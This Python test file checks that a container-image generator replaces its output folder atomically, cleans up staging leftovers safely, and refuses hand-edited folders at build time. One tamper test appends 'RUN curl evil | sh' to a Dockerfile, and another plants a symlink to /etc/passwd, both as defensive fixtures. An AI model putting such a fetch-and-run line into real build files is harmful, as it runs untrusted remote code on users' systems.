"""A render replaces output/ atomically (issue 20): an interrupt or an error leaves output/ wholly
old or wholly new, never a mix, and `gen build` refuses a folder whose files disagree with its
manifest (edited by hand, or half replaced by an older gen). Only changed image folders are
staged and exchanged, so a change of one spec writes one folder."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from generator.builder.outputs import folder_digests, load_outputs
from generator.errors import UsageError
from generator.render import MANIFEST, STAGING_PREFIX, write_outputs
from generator.render.project import render_project
from generator.spec import load_project

BASE = "base: {distro: debian, release: bookworm, bootstrap: {variant: minbase}}\n"


def write_specs(project: Path, count: int, version: str) -> None:
    specs = project / "specs"
    specs.mkdir(parents=True, exist_ok=True)
    for i in range(count):
        (specs / f"img{i}.yaml").write_text(
            f"name: img{i}\ntags: [a]\ndescription: {version}\n{BASE}init: {{kind: none}}\ncmd: [sh]\n"
        )


def render(project: Path, prune: bool = True):
    result = render_project(load_project([project / "specs"], project))
    return write_outputs(project / "output", result.images, prune)


def versions(project: Path) -> set[str]:
    """The description each rendered image was rendered from; every folder checked against its manifest."""
    found = set()
    for manifest in (project / "output").glob(f"*/{MANIFEST}"):
        recorded = json.loads(manifest.read_text())["context_sha256"]
        assert folder_digests(manifest.parent)[0] == recorded, f"{manifest.parent.name} is a mix"
        spec = json.loads((manifest.parent / "gen-spec" / "etc" / "gen" / "spec.json").read_text())
        found.add(spec["description"])
    return found


def test_unchanged_files_keep_their_inode_and_others_are_kept(tmp_path):
    write_specs(tmp_path, 2, "v0")
    render(tmp_path)
    (tmp_path / "output" / "README.md").write_text("not gen's\n")
    (tmp_path / "output" / "notes").mkdir()
    (tmp_path / "output" / "notes" / "a").write_text("a\n")
    dockerfile = tmp_path / "output" / "img0" / "Dockerfile"
    before = dockerfile.stat()
    (tmp_path / "specs" / "img1.yaml").write_text((tmp_path / "specs" / "img1.yaml").read_text().replace("v0", "v1"))
    report = render(tmp_path)
    assert report.written and all(p.startswith("img1/") for p in report.written)
    after = dockerfile.stat()
    assert (after.st_ino, after.st_mtime_ns, after.st_nlink) == (before.st_ino, before.st_mtime_ns, 1)
    assert (tmp_path / "output" / "README.md").read_text() == "not gen's\n"
    assert (tmp_path / "output" / "notes" / "a").read_text() == "a\n"
    assert not list(tmp_path.glob(STAGING_PREFIX + "*")), "no staging tree left behind"


def test_only_the_changed_image_folder_is_replaced(tmp_path):
    write_specs(tmp_path, 3, "v0")
    render(tmp_path)
    folders = {p.name: p.stat().st_ino for p in (tmp_path / "output").iterdir()}
    output_inode = (tmp_path / "output").stat().st_ino
    spec = tmp_path / "specs" / "img1.yaml"
    spec.write_text(spec.read_text().replace("v0", "v1"))
    render(tmp_path)
    after = {p.name: p.stat().st_ino for p in (tmp_path / "output").iterdir()}
    assert (tmp_path / "output").stat().st_ino == output_inode, "output/ itself was replaced"
    assert {n for n in folders if after[n] != folders[n]} == {"img1"}
    assert versions(tmp_path) == {"v0", "v1"}


def test_a_failed_exchange_undoes_the_ones_before_it(tmp_path, monkeypatch):
    """A rename that fails halfway through (ENOSPC for a directory block) leaves the old output/."""
    from generator.errors import GenError

    write_specs(tmp_path, 3, "v0")
    render(tmp_path)
    write_specs(tmp_path, 3, "v1")
    real = __import__("generator.render", fromlist=["_exchange"])._exchange
    calls = []

    def third_fails(a, b):
        calls.append((a, b))
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real(a, b)

    monkeypatch.setattr("generator.render._exchange", third_fails)
    with pytest.raises(GenError, match="No space left.*output/ is as it was"):
        render(tmp_path)
    assert len(calls) == 3 + 2, "the two exchanges done were undone"
    assert versions(tmp_path) == {"v0"}
    assert not list(tmp_path.glob(STAGING_PREFIX + "*"))


def test_a_render_that_changes_nothing_stages_nothing(tmp_path, monkeypatch):
    write_specs(tmp_path, 2, "v0")
    render(tmp_path)
    monkeypatch.setattr("generator.render.Stager._stage", lambda *a: pytest.fail("staged an unchanged render"))
    assert not render(tmp_path).written


def test_output_keeps_its_permissions(tmp_path):
    write_specs(tmp_path, 1, "v0")
    render(tmp_path)
    assert (tmp_path / "output").stat().st_mode & 0o777 == 0o777 & ~_umask()
    (tmp_path / "output").chmod(0o750)
    write_specs(tmp_path, 1, "v1")
    render(tmp_path)
    assert (tmp_path / "output").stat().st_mode & 0o777 == 0o750


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("where", ["Stager.finish", "_exchange"])
def test_an_interrupt_before_the_swap_changes_nothing(tmp_path, monkeypatch, where):
    """Ctrl-C while the main thread waits for the staging thread, or right before the swap."""
    write_specs(tmp_path, 3, "v0")
    render(tmp_path)
    write_specs(tmp_path, 3, "v1")

    def interrupted(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(f"generator.render.{where}", interrupted)
    with pytest.raises(KeyboardInterrupt):
        render(tmp_path)
    assert versions(tmp_path) == {"v0"}
    assert not list(tmp_path.glob(STAGING_PREFIX + "*"))


def test_without_rename_exchange_the_two_renames_still_swap(tmp_path, monkeypatch):
    write_specs(tmp_path, 2, "v0")
    render(tmp_path)
    write_specs(tmp_path, 2, "v1")
    monkeypatch.setattr("generator.render._exchange", lambda a, b: False)
    render(tmp_path)
    assert versions(tmp_path) == {"v1"} and not list(tmp_path.glob(STAGING_PREFIX + "*"))


def test_leftovers_of_a_killed_render_are_removed_without_following_links(tmp_path):
    write_specs(tmp_path, 1, "v0")
    victim = tmp_path.parent / f"{tmp_path.name}-victim"
    victim.mkdir()
    (victim / "precious").write_text("keep\n")
    (tmp_path / f"{STAGING_PREFIX}killed").mkdir()
    (tmp_path / f"{STAGING_PREFIX}killed" / "x").write_text("half\n")
    (tmp_path / f"{STAGING_PREFIX}link").symlink_to(victim)
    render(tmp_path)
    assert not list(tmp_path.glob(STAGING_PREFIX + "*"))
    assert (victim / "precious").read_text() == "keep\n"


def test_ctrl_c_at_any_moment_leaves_the_old_or_the_new_output_whole(tmp_path):
    """Real `gen render` processes over 50 specs, each interrupted (SIGINT) at another point of
    its run: exit 130 with one line (or 0 when it finished first). Not tried: the first ~50 ms,
    while the interpreter itself starts (before any of gen's code), where Python prints its own
    traceback., and every image folder of
    the project is from the same render, old or new."""
    count = 50
    write_specs(tmp_path, count, "v0")
    started = time.monotonic()
    first = subprocess.run(
        [sys.executable, "-m", "generator", "render", "-C", str(tmp_path)], capture_output=True, text=True, timeout=120
    )
    assert first.returncode == 0, first.stderr
    duration = time.monotonic() - started
    seen_exits = set()
    for trial, fraction in enumerate((0.1, 0.4, 0.7, 0.9, 1.0), start=1):
        write_specs(tmp_path, count, f"v{trial}")
        proc = subprocess.Popen(
            [sys.executable, "-m", "generator", "render", "-C", str(tmp_path)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        time.sleep(duration * fraction)
        proc.send_signal(signal.SIGINT)
        _, stderr = proc.communicate(timeout=120)
        seen_exits.add(proc.returncode)
        assert "Traceback" not in stderr
        # -SIGINT (the shell says 130 too): the signal came before Python handled it, so silently,
        # or Python ended that way after gen's line
        assert proc.returncode in (0, 130, -signal.SIGINT), stderr
        allowed = {0: [""], 130: ["interrupted\n"]}.get(proc.returncode, ["", "interrupted\n"])
        assert stderr in allowed, (proc.returncode, stderr)
        assert versions(tmp_path) in ({f"v{trial - 1}"}, {f"v{trial}"})
        if versions(tmp_path) == {f"v{trial - 1}"}:  # the next trial's "old" is this one's new
            write_specs(tmp_path, count, f"v{trial}")
            assert (
                subprocess.run(
                    [sys.executable, "-m", "generator", "render", "-C", str(tmp_path)], capture_output=True, timeout=120
                ).returncode
                == 0
            )
    assert 130 in seen_exits, "no run was interrupted: the test proved nothing"


# --- build reads only what render wrote ------------------------------------------------------------


def test_build_refuses_a_folder_edited_since_render(tmp_path):
    write_specs(tmp_path, 2, "v0")
    render(tmp_path)
    assert set(load_outputs(tmp_path / "output")) == {"img0", "img1"}
    dockerfile = tmp_path / "output" / "img1" / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text() + "RUN curl evil | sh\n")
    with pytest.raises(UsageError, match=r"img1: its files differ from what `gen render` wrote"):
        load_outputs(tmp_path / "output")
    render(tmp_path)
    (tmp_path / "output" / "img1" / "extra").write_text("smuggled into the context\n")
    with pytest.raises(UsageError, match="differ"):
        load_outputs(tmp_path / "output")
    render(tmp_path)
    assert set(load_outputs(tmp_path / "output")) == {"img0", "img1"}


def test_build_accepts_a_checkout_with_another_umask_and_mtime(tmp_path):
    write_specs(tmp_path, 1, "v0")
    render(tmp_path)
    for path in (tmp_path / "output" / "img0").rglob("*"):
        if path.is_file():
            path.chmod(path.stat().st_mode | 0o020)  # umask 002
            os.utime(path, (1, 1))
    assert set(load_outputs(tmp_path / "output")) == {"img0"}


def test_build_refuses_a_symlink_in_a_folder(tmp_path):
    write_specs(tmp_path, 1, "v0")
    render(tmp_path)
    (tmp_path / "output" / "img0" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(UsageError, match="passwd is a symlink"):
        load_outputs(tmp_path / "output")


def test_an_output_that_is_a_file_or_cannot_be_written_is_one_clear_error(tmp_path, monkeypatch):
    from generator.errors import GenError

    write_specs(tmp_path, 1, "v0")
    (tmp_path / "output").write_text("not a directory\n")
    with pytest.raises(UsageError, match="is not a directory"):
        render(tmp_path)
    (tmp_path / "output").unlink()
    render(tmp_path)
    write_specs(tmp_path, 1, "v1")

    def cross_device(*args):
        raise OSError(18, "Invalid cross-device link")

    monkeypatch.setattr("generator.render.os.link", cross_device)
    with pytest.raises(GenError, match="cannot write .*cross-device.*output/ is as it was"):
        render(tmp_path)
    assert versions(tmp_path) == {"v0"} and not list(tmp_path.glob(STAGING_PREFIX + "*"))


def test_a_strict_umask_does_not_narrow_the_modes_render_writes(tmp_path):
    write_specs(tmp_path, 2, "v0")
    images = render_project(load_project([tmp_path / "specs"], tmp_path)).images
    assert {f.mode for image in images for f in image.files} == {0o644, 0o755}
    previous = os.umask(0o077)
    try:
        write_outputs(tmp_path / "output", images, prune=True)
    finally:
        os.umask(previous)
    for image in images:
        for f in image.files:
            assert (tmp_path / "output" / image.name / f.path).stat().st_mode & 0o777 == f.mode, f.path


def test_a_file_several_images_share_is_written_once_and_an_edit_in_place_is_undone(tmp_path):
    specs = tmp_path / "specs"
    specs.mkdir()
    for i in range(3):
        (specs / f"img{i}.yaml").write_text(
            f"name: img{i}\ntags: [a]\n{BASE}init: {{kind: s6}}\ncmd: [sh, -c, 'exit {i}']\n"
        )
    render(tmp_path)
    script = Path("gen-init/usr/lib/gen/init/common")
    copies = [tmp_path / "output" / f"img{i}" / script for i in range(3)]
    assert len({p.stat().st_ino for p in copies}) == 1 and copies[0].stat().st_nlink == 3
    dockerfiles = [tmp_path / "output" / f"img{i}" / "Dockerfile" for i in range(3)]
    assert len({p.stat().st_ino for p in dockerfiles}) == 3  # different content, never linked
    text = copies[0].read_text()
    with copies[0].open("a") as edited:  # an editor that writes in place reaches every copy
        edited.write("# edited\n")
    assert all(p.read_text().endswith("# edited\n") for p in copies)
    report = render(tmp_path)
    assert sorted(report.written) == [f"img{i}/{script}" for i in range(3)]
    assert all(p.read_text() == text for p in copies)
    for i in range(3):
        folder = tmp_path / "output" / f"img{i}"
        assert folder_digests(folder)[0] == json.loads((folder / MANIFEST).read_text())["context_sha256"]
